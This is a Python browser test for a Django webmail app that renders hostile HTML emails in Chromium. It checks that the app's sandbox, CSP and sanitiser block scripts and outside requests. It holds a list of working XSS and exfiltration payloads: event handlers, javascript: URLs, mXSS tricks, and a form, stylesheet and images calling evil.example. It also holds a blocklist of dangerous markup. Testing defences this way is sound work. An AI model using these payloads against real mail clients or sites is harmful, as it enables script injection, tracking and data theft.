"""Hostile mail rendered in Chromium with every request watched: no script runs, nothing
leaves our origin, the frame is sandboxed and its CSP is strict."""

from __future__ import annotations

import re
from typing import Any

import pytest

from accounts.models import User
from tests.browser.test_login_browser import sign_in
from tests.conftest import PASSWORD
from tests.integration.sync_helpers import make_account
from tests.servers.mail import MailServer
from webmail.models import Folder, Message, MessageBody

HOSTILE = {
    "script": "<p>x</p><script>alert(1)</script><script src='https://evil.example/a.js'></script>",
    "handlers": "<img src=x onerror=alert(1)><body onload=alert(2)>"
    "<div onmouseover=alert(3)>h</div>",
    "js-url": "<a href='javascript:alert(1)'>a</a><a href=' jav&#x09;ascript:alert(2)'>b</a>"
    "<a href='data:text/html,<script>alert(3)</script>'>c</a>",
    "svg-math": "<svg><script>alert(1)</script><animate onbegin=alert(2)></svg>"
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></math>",
    "css": "<style>@import url(https://evil.example/x.css); body{background:url(https://evil."
    "example/bg.png)} @font-face{font-family:x;src:url(https://evil.example/f.woff)}</style>"
    "<div style=\"background-image:url('https://evil.example/i.png');width:expression(alert(1))\">"
    "styled</div>",
    "forms": "<form action='https://evil.example/steal'><input name=p><button>go</button></form>"
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/s.css'>",
    "mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'
    "<iframe src='https://evil.example/'></iframe><object data='https://evil.example/o'>",
    "remote-img": "<img src='https://evil.example/track.png'>"
    "<img srcset='https://evil.example/1x.png 1x'>"
    "<table background='https://evil.example/t.png'><tr><td>t</td></tr></table>",
}


def raw_mail(name: str, html: str) -> bytes:
    return (
        f"From: Evil <evil@example.test>\r\nTo: bob@example.test\r\nSubject: hostile {name}\r\n"
        f"MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    ).encode()


@pytest.mark.browser
@pytest.mark.mailserver
@pytest.mark.django_db(transaction=True)
def test_hostile_mail_cannot_run_or_call_out(page: Any, bob: User, mailserver: MailServer) -> None:
    account = make_account(bob, mailserver, "bob")
    folder = Folder.objects.create(
        account=account,
        name="INBOX",
        raw_name="INBOX",
        special_use="inbox",
        uidvalidity=1,
        total=len(HOSTILE),
    )
    ids = {}
    for uid, (name, html) in enumerate(HOSTILE.items(), start=1):
        raw = raw_mail(name, html)
        message = Message.objects.create(
            folder=folder,
            uid=uid,
            subject=f"hostile {name}",
            from_email="evil@example.test",
            seen=True,
            internaldate="2026-11-01T10:00:00Z",
            size=len(raw),
        )
        MessageBody.objects.create(message=message, raw=raw, size=len(raw))
        ids[name] = message.pk
    requests: list[str] = []
    dialogs: list[str] = []
    page.on("request", lambda request: requests.append(request.url))

    def on_dialog(dialog: Any) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", on_dialog)
    sign_in(page, "bob", PASSWORD)
    page.wait_for_url("**/mail/")
    origin = re.match(r"https?://[^/]+", page.url).group(0)  # type: ignore[union-attr]
    for name, message_id in ids.items():
        response = page.goto(f"/mail/message/{message_id}/")
        assert response.ok
        frame_element = page.wait_for_selector("#body-frame")
        assert (
            frame_element.get_attribute("sandbox") == "allow-popups allow-popups-to-escape-sandbox"
        )
        body = page.request.get(f"/mail/message/{message_id}/body/")
        assert "default-src 'none'" in body.headers["content-security-policy"]
        frame = frame_element.content_frame()
        frame.wait_for_load_state()
        frame.hover("body")
        html = frame.locator("body").inner_html().lower()
        for bad in (
            "<script",
            "onerror",
            "onload",
            "javascript:",
            "<svg",
            "<math",
            "<form",
            "<iframe",
            "<object",
            "<meta",
            "<base",
            "<link",
            "expression(",
        ):
            assert bad not in html, (name, bad)
    page.wait_for_timeout(500)
    assert dialogs == []
    leaving = [url for url in requests if not url.startswith((origin, "data:", "about:"))]
    assert leaving == [], leaving
